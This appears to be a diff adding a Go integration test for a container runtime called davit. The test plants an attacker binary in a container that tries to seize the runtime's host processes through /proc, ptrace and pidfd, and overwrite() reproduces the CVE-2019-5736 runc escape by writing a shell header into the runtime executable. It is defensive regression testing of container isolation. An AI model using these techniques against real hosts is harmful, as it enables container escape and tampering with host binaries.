@@ -1,0 +1,159 @@
+package integration
+
+import (
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// attack is the test binary as a container's process: until /stop is there it looks for processes of davit in its pid
+// namespace and tries to get hold of them. What succeeds goes to /breach, how many it met to /met at the end.
+func attack() int {
+	runtime.LockOSThread() // a tracer is a thread
+	breach, err := os.OpenFile("/breach", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
+	if err != nil {
+		fmt.Println(err)
+		return 1
+	}
+	os.WriteFile("/up", []byte("up"), 0o644)
+	met := map[string]bool{}
+	for i := 0; ; i++ {
+		entries, err := os.ReadDir("/proc")
+		if err != nil {
+			fmt.Println(err)
+			return 1
+		}
+		for _, e := range entries {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil || pid == os.Getpid() {
+				continue
+			}
+			if comm := commOf(pid); strings.Contains(comm, "davit") || comm == "exe" {
+				met[e.Name()] = true
+				attackProcess(pid, breach)
+			}
+		}
+		if i%16 == 0 {
+			if _, err := os.Stat("/stop"); err == nil {
+				os.WriteFile("/met", []byte(strconv.Itoa(len(met))), 0o644)
+				return 0
+			}
+		}
+	}
+}
+
+func commOf(pid int) string {
+	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
+	return strings.TrimSpace(string(data))
+}
+
+// attackProcess tries every way into a process that is davit's. One that has been exec'd meanwhile is the container's
+// own, so what was got is looked at.
+func attackProcess(pid int, breach io.Writer) {
+	dir := fmt.Sprintf("/proc/%d/", pid)
+	report := func(format string, args ...any) {
+		fmt.Fprintf(breach, "process %d: "+format+"\n", append([]any{pid}, args...)...)
+	}
+	for _, flags := range []int{unix.O_RDONLY, unix.O_RDWR, unix.O_WRONLY, unix.O_PATH} {
+		fd, err := unix.Open(dir+"exe", flags|unix.O_CLOEXEC, 0)
+		if err != nil {
+			continue
+		}
+		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
+		if strings.Contains(to, "davit") {
+			report("opened its executable %s with flags %#x", to, flags)
+			overwrite(fd, report)
+		}
+		unix.Close(fd)
+	}
+	if fd, err := unix.Open(dir+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
+		if comm := commOf(pid); strings.Contains(comm, "davit") {
+			report("opened the memory of %s", comm)
+		}
+		unix.Close(fd)
+	}
+	for _, link := range []string{"cwd", "root", "exe"} {
+		to, err := os.Readlink(dir + link)
+		if comm := commOf(pid); err == nil && strings.Contains(comm, "davit") {
+			report("read the link %s of %s: %s", link, comm, to)
+		}
+	}
+	for n := range 10 { // their numbers are no secret, what they lead to is
+		to, err := os.Readlink(fmt.Sprintf("%sfd/%d", dir, n))
+		if comm := commOf(pid); err == nil && strings.Contains(comm, "davit") {
+			report("read descriptor %d of %s: %s", n, comm, to)
+		}
+	}
+	if pidfd, err := unix.PidfdOpen(pid, 0); err == nil {
+		if fd, err := unix.PidfdGetfd(pidfd, 3, 0); err == nil {
+			report("took its descriptor 3")
+			unix.Close(fd)
+		}
+		unix.Close(pidfd)
+	}
+	if err := unix.PtraceSeize(pid); err == nil {
+		if comm := commOf(pid); strings.Contains(comm, "davit") {
+			report("traces %s", comm)
+		}
+		unix.PtraceInterrupt(pid)
+		var status unix.WaitStatus
+		unix.Wait4(pid, &status, unix.WALL, nil)
+		unix.PtraceDetach(pid)
+	}
+}
+
+// overwrite is CVE-2019-5736: as soon as the executable no longer runs, write to it.
+func overwrite(fd int, report func(string, ...any)) {
+	for end := time.Now().Add(50 * time.Millisecond); time.Now().Before(end); {
+		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			continue
+		}
+		if n, err := unix.Write(w, []byte("#!/bin/sh\n")); err == nil {
+			report("overwrote it with %d bytes", n)
+		}
+		unix.Close(w)
+		return
+	}
+}
+
+// stopAttack ends the attacker of a box, and returns what it has got, and how many processes of davit's it met.
+func (b *box) stopAttack() (breaches string, met int) {
+	b.t.Helper()
+	mustWrite(b.t, b.path("stop"), "stop")
+	if err := awaitFile(b.path("met")); err != nil {
+		b.t.Fatal(err)
+	}
+	data, _ := os.ReadFile(b.path("met"))
+	met, _ = strconv.Atoi(string(data))
+	data, err := os.ReadFile(b.path("breach"))
+	if err != nil {
+		b.t.Fatal(err)
+	}
+	return string(data), met
+}
+
+// plantAttacker makes the test binary the bundle's program.
+func (b *box) plantAttacker() {
+	b.t.Helper()
+	data, err := os.ReadFile("/proc/self/exe")
+	if err != nil {
+		b.t.Fatal(err)
+	}
+	mustWrite(b.t, b.path("attacker"), string(data))
+	libraries, _ := exec.Command("ldd", b.path("attacker")).Output() // fails for a static binary
+	for _, word := range strings.Fields(string(libraries)) {
+		if data, err := os.ReadFile(word); err == nil && filepath.IsAbs(word) {
+			mustWrite(b.t, b.path(word), string(data))
+		}
+	}
+	b.edit("root.readonly=false", `process.args=["/attacker"]`, "process.env+="+roleVariable+"=attacker")
+}
